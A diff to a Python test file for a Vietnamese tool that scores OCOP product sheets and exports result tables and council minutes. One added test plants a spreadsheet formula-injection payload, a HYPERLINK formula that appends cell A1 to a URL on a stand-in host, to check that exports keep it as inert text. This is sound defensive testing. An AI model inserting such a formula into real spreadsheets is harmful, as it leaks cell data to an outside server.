@@ -2,14 +2,14 @@
 from __future__ import annotations
 
 from decimal import Decimal
+from pathlib import Path
 
 from click.testing import CliRunner
 from openpyxl import load_workbook
+from testpaths import SAMPLES
 
 from ocop_docs.cli import main
 from ocop_docs.io.tables import read_products
-
-from testpaths import SAMPLES
 
 SHEETS = sorted(str(p) for p in (SAMPLES / "forms").glob("phieu-cam-vu-quang-*.yaml"))
 
@@ -80,3 +80,64 @@ def test_score_a_malformed_sheet(tmp_path):
     assert "tiêu chí 1.1 (Nguồn gốc sản phẩm) có 2 ô được đánh dấu (ô 1 và ô 3)" in result.output
     assert "không có tiêu chí '12.5' trong bộ 1" in result.output
     assert "tiêu chí 12 (CƠ HỘI THỊ TRƯỜNG TOÀN CẦU) chưa được đánh dấu ô nào" in result.output
+
+
+def test_score_table_never_carries_a_formula_and_csv_reads_in_vietnamese_excel(tmp_path):
+    """A product name typed as a formula in the sheets stays text in --bang (.xlsx and .csv)."""
+    evil = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
+    sheets = []
+    for path in SHEETS:
+        text = Path(path).read_text(encoding="utf-8").replace("name: Cam Vũ Quang", f"name: '{evil}'")
+        sheets.append(tmp_path / Path(path).name)
+        sheets[-1].write_text(text, encoding="utf-8")
+    result = run("score", *sheets, "--bang", tmp_path / "kq.xlsx")
+    assert result.exit_code == 0, result.output
+    import zipfile
+
+    with zipfile.ZipFile(tmp_path / "kq.xlsx") as z:
+        sheet_xml = z.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml and b"HYPERLINK" in sheet_xml  # present as text only
+    ws = load_workbook(tmp_path / "kq.xlsx").active
+    assert (ws["B2"].value, ws["B2"].data_type, ws["B2"].quotePrefix) == (evil, "s", True)
+    assert (ws["F2"].value, ws["F2"].number_format) == (76.33, "0.00")
+    result = run("score", *sheets, "--bang", tmp_path / "kq.csv")
+    assert result.exit_code == 0, result.output
+    raw = (tmp_path / "kq.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    assert raw.decode("utf-8-sig").splitlines()[0] == (
+        "STT;Tên sản phẩm;Chủ thể;Địa chỉ;Bộ sản phẩm;Điểm trung bình;Hạng sao;Mã số sản phẩm;Ngày đánh giá")
+    import csv
+    import io
+
+    cells = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))[1]
+    assert cells[1].startswith("'=HYPERLINK(") and cells[5] == "76,33" and cells[6] == "4"
+    assert cells[8].count("/") == 2  # dd/mm/yyyy
+
+
+def test_minutes_with_members_from_a_sheet_say_what_was_not_used(tmp_path):
+    """``form bien-ban`` with ``members_file``: members from the sheet, unused column and footer reported."""
+    import yaml
+    from docx import Document
+    from openpyxl import Workbook
+
+    data = yaml.safe_load((SAMPLES / "forms" / "bien-ban-hoi-dong-ha-tinh.yaml").read_text(encoding="utf-8"))
+    del data["members"]
+    data["members_file"] = "co-mat.xlsx"
+    data["sheets"] = [str(SAMPLES / "forms" / Path(s).name) for s in data["sheets"]]
+    wb = Workbook()
+    ws = wb.active
+    ws.title = "Có mặt"
+    ws.append(["STT", "Họ tên", "Chức vụ, đơn vị công tác", "Chức danh HĐ", "Ký tên"])
+    ws.append([1, "Phan Đình Khánh", "Phó Chủ tịch UBND tỉnh", "Chủ tịch HĐ", None])
+    ws.append([2, "Trần Văn Bình", "Chi cục trưởng Chi cục Phát triển nông thôn", "Thư ký HĐ", None])
+    ws.append(["Tổng cộng: 02 người"])
+    wb.save(tmp_path / "co-mat.xlsx")
+    spec = tmp_path / "bien-ban.yaml"
+    spec.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    result = run("form", "bien-ban", spec, "-o", tmp_path / "bb.docx")
+    assert result.exit_code == 0, result.output
+    assert "Lưu ý: co-mat.xlsx, trang 'Có mặt': các cột không dùng (dữ liệu trong đó không được đưa vào văn bản): E «Ký tên»" in result.output
+    assert "Lưu ý: co-mat.xlsx, trang 'Có mặt': bỏ qua 1 dòng cuối bảng (tổng cộng, chữ ký): dòng 4 «Tổng cộng: 02 người»" in result.output
+    document = Document(tmp_path / "bb.docx")
+    text = "\n".join([p.text for p in document.paragraphs] + [c.text for t in document.tables for r in t.rows for c in r.cells])
+    assert "Phan Đình Khánh" in text and "Trần Văn Bình" in text
